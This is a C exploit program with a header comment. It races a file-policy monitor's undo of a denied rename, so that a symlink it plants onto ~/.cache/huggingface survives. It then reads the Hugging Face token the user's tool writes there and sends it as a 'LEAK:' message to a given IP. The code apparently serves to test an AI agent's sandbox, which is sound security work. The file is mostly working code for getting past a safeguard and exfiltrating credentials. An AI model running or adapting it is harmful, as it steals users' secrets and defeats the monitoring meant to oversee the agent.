// undorace IP DIR LINK SECS MODE: sends PRE; holds DIR/token open (the agent's own file);
// makes tmplink -> DIR beside LINK (~/.cache/tmplink), then rename(tmplink, LINK)
// (~/.cache/huggingface), which the policy refuses (hf.claw: the link would name the
// denied token) and the monitor takes back with renameat2(LINK, tmplink, RENAME_NOREPLACE).
//   race:  a second thread creates tmplink (O_CREAT|O_EXCL) in a loop while the rename is
//          decided: once the monitor has moved the link away, tmplink is free, the thread
//          takes the name, and the undo fails (EEXIST, unchecked): the link stays at LINK.
//   race-exchange: LINK made an empty directory, then renameat2(tmplink, LINK,
//          RENAME_EXCHANGE) (undone by exchanging again); the second thread removes the
//          empty directory, now at tmplink (rmdir), before the undo: the exchange back
//          fails (ENOENT) and the link stays at LINK.
//   plain: the same rename, no second thread (control).
// Retries up to 50 times (each attempt: remove a surviving tmplink file, remake the link).
// says ready, waits SECS (the user's tool writes its token into LINK/token), reads the held
// descriptor and sends what it reads.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <stdio.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include "../../isolated-files-r4/send.c"
static char t[4096]; static atomic_int go, won;
static int exch;
static void*racer(void*x){ while(atomic_load(&go)){
  if(exch){ if(rmdir(t)==0){ atomic_store(&won,1); return 0;} continue; }
  int f=open(t,O_CREAT|O_EXCL|O_WRONLY,0644); if(f>=0){close(f); atomic_store(&won,1); return 0;} } return 0; }
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1],*dir=argv[2],*lnk=argv[3],*mode=argv[5];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  char p[4096]; snprintf(p,sizeof p,"%s/token",dir); int fd=open(p,O_RDONLY); if(fd<0){perror("open token");return 1;}
  snprintf(t,sizeof t,"%s",lnk); char*s=strrchr(t,'/'); strcpy(s+1,"tmplink");
  exch=!strcmp(mode,"race-exchange"); int race=!strncmp(mode,"race",4), tries=race?50:1, i; struct stat st;
  for(i=1;i<=tries;i++){
    unlink(t); rmdir(t); if(exch) mkdir(lnk,0755); if(symlink(dir,t)){perror("symlink tmplink");return 1;}
    pthread_t th; atomic_store(&go,1); atomic_store(&won,0);
    if(race) pthread_create(&th,0,racer,0);
    int r=exch?renameat2(AT_FDCWD,t,AT_FDCWD,lnk,RENAME_EXCHANGE):rename(t,lnk), e=errno; atomic_store(&go,0); if(race) pthread_join(th,0);
    int stays = lstat(lnk,&st)==0 && S_ISLNK(st.st_mode);
    if(i==1||stays||i==tries) printf("try %d: %s(%s, %s): %d %s; racer took tmplink: %d; %s %s\n",i,exch?"exchange":"rename",t,lnk,r,r?strerror(e):"",atomic_load(&won),lnk,stays?"IS STILL A SYMLINK":"absent");
    if(stays) break;
  }
  close(open("ready",O_CREAT|O_WRONLY,0644));
  sleep(atoi(argv[4]));
  char buf[256]={0}; ssize_t n=pread(fd,buf,255,0); printf("HELD token READS %zd bytes: %.60s\n",n,buf);
  char m[300]; int l=snprintf(m,sizeof m,"LEAK:%.60s",buf); printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
